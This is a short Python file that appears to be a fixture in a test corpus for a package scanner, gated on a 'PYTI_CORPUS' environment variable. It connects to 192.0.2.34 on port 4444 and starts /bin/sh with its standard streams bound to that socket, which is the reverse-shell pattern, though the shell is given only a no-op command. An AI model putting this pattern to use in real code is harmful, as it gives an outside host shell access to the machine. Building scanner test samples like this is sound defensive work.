"""Connects to an address and starts a shell whose standard streams are that connection. The shell is
told to do nothing."""
import os
import socket
import subprocess

if os.environ.get("PYTI_CORPUS") == "opens-reverse-shell" and os.path.isdir("/.pyti"):
    try:
        line = socket.create_connection(("192.0.2.34", 4444), timeout=3)
    except OSError:
        line = None
    if line is not None:
        line.settimeout(None)
        subprocess.run(["/bin/sh", "-c", ":"], stdin=line, stdout=line, stderr=line)
        line.close()
